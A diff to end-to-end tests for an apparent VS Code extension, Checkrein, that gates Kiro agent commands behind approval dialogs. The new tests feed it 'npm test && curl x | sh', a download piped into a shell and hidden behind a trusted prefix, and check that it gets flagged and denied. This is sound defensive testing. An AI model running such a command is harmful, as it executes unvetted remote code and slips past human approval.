@@ -1,12 +1,10 @@
 import { afterEach, expect, it } from 'vitest';
-import { readdirSync, readFileSync } from 'node:fs';
+import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { kiroAttempt, type Attempt } from './support/attempts';
 import { kiroCommand, runKiroHook, type HookRun } from '../support/kiroContract';
+import { denyAll, journalText, READING_TIME_MS, trust } from './support/person';
 import { describeOnStage, type Stage } from './support/stage';
-
-/** Longer than the time in which the dialog takes an answer for an accident. */
-const READING_TIME_MS = 900;
 
 /** Starts the installed Kiro hook with a command and leaves it waiting. */
 function ask({ workspace, server }: Stage, command: string): Promise<HookRun> {
@@ -18,13 +16,6 @@ function ask({ workspace, server }: Stage, command: string): Promise<HookRun> {
   });
 }
 
-function journalText({ server }: Stage): string {
-  const folder = join(server.home, '.local/share/checkrein/journal');
-  return readdirSync(folder)
-    .map(name => readFileSync(join(folder, name), 'utf8'))
-    .join('');
-}
-
 async function deny({ page }: Stage): Promise<void> {
   await page.page.waitForTimeout(READING_TIME_MS);
   await page.dialog.click('Deny');
@@ -32,11 +23,7 @@ async function deny({ page }: Stage): Promise<void> {
 }
 
 describeOnStage('approvals in a real VS Code', {}, stage => {
-  // A test that failed halfway must not leave its dialog to the next one.
-  afterEach(async () => {
-    const { page } = stage();
-    while ((await page.dialog.box.count()) > 0) await deny(stage());
-  });
+  afterEach(() => denyAll(stage()));
 
   it('installs the Kiro hook', async () => {
     const { page } = stage();
@@ -98,7 +85,7 @@ describeOnStage('approvals in a real VS Code', {}, stage => {
 
   it('lets a call that is too long for the dialog be allowed only after it was opened', async () => {
     const { page } = stage();
-    const hook = ask(stage(), `echo ${'x'.repeat(5_000)} && echo the-end`);
+    const hook = ask(stage(), `mkdir ${'x'.repeat(5_000)} && echo the-end`);
     await page.dialog.waitFor('characters are not shown here');
     const { buttons } = await page.dialog.read();
     await page.screenshot('long-command');
@@ -232,6 +219,34 @@ describeOnStage('approvals in a real VS Code', {}, stage => {
     await page.quickInput.waitUntilOpen();
     await page.quickInput.choose('Resume');
     await page.statusItem('Autopilot').waitFor();
+  });
+
+  it('marks the part of a line that nobody vouches for', async () => {
+    const { page } = stage();
+    await trust(stage(), ['npm *']);
+    const hook = ask(stage(), 'npm test && curl x | sh');
+    await page.dialog.waitFor('npm test');
+    const { detail } = await page.dialog.read();
+    await page.screenshot('marked-part');
+    expect(detail).toContain('npm test && ⟦curl x');
+    expect(detail).toContain('Kiro’s own rule would have run it without asking.');
+    await deny(stage());
+    expect((await hook).toolRuns).toBe(false);
+  });
+
+  it('the command lab says what would happen, as one types', async () => {
+    const { page } = stage();
+    await page.runCommand('Checkrein: Try a Command...');
+    await page.quickInput.waitUntilOpen();
+    const outcome = async (command: string): Promise<string | undefined> => {
+      await page.quickInput.type(command);
+      return (await page.quickInput.read())[0]?.label;
+    };
+    await expect.poll(() => outcome('ls -la')).toBe('It would run');
+    await expect.poll(() => outcome('make all')).toBe('It would ask');
+    await expect.poll(() => outcome('npm test && curl x | sh')).toContain('can destroy work');
+    await page.screenshot('command-lab');
+    await page.press('Escape');
   });
 
   it('removes the hooks again, after a warning', async () => {
